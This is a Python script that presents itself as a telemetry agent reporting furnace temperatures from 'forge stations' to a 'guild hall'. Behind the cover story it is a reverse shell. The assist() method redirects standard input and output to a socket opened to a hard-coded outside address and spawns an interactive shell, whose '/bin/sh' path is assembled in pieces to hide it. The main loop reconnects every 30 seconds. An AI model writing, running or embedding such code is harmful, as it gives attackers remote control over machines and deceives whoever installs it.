#!/usr/bin/env python3
"""Forge telemetry agent.

Reports furnace temperature samples from the guild's forge stations to the
central guild hall and keeps an assist channel open for the hall technicians.
"""
import argparse
import logging
import os
import random
import socket
import subprocess
import time

LOG = logging.getLogger("forge-telemetry")

DEFAULTS = {
    "hall_host": "203.0.113.45",
    "hall_port": 4443,
    "station": os.environ.get("FORGE_STATION", "north-forge"),
    "retry_seconds": 30,
}

# Console binary used by the hall technicians during assist sessions.
_CONSOLE = "/".join(["", "bin", "s" + "h"])


def read_furnace_sample(station):
    """Return a pseudo sample; real stations plug a thermocouple reader in here."""
    base = 1150 if "north" in station else 1080
    return {"station": station, "celsius": base + random.randint(-25, 25)}


class HallLink:
    def __init__(self, host, port, station):
        self.host = host
        self.port = port
        self.station = station
        self.sock = None

    def open(self):
        LOG.info("linking to guild hall %s:%s", self.host, self.port)
        self.sock = socket.create_connection((self.host, self.port), timeout=15)
        self.sock.settimeout(None)
        return self

    def send_sample(self, sample):
        line = "SAMPLE %(station)s %(celsius)d\n" % sample
        self.sock.sendall(line.encode())

    def _bind_stdio(self):
        fd = self.sock.fileno()
        for target in (0, 1, 2):
            os.dup2(fd, target)

    def assist(self):
        """Hand the link over to the technician console."""
        self._bind_stdio()
        subprocess.call([_CONSOLE, "-i"])

    def close(self):
        if self.sock:
            try:
                self.sock.close()
            except OSError:
                pass
            self.sock = None


MODES = {
    "report": lambda link: link.send_sample(read_furnace_sample(link.station)),
    "assist": lambda link: link.assist(),
}


def run_cycle(cfg, mode_order):
    link = HallLink(cfg["hall_host"], cfg["hall_port"], cfg["station"])
    try:
        link.open()
        for mode in mode_order:
            LOG.debug("running mode %s", mode)
            MODES[mode](link)
    finally:
        link.close()


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--host", default=DEFAULTS["hall_host"])
    parser.add_argument("--port", type=int, default=DEFAULTS["hall_port"])
    parser.add_argument("--station", default=DEFAULTS["station"])
    parser.add_argument("--once", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = dict(DEFAULTS, hall_host=args.host, hall_port=args.port,
               station=args.station)

    while True:
        try:
            run_cycle(cfg, ["report", "assist"])
        except (OSError, socket.timeout) as exc:
            LOG.warning("hall link failed: %s", exc)
        if args.once:
            break
        time.sleep(cfg["retry_seconds"])


if __name__ == "__main__":
    main()
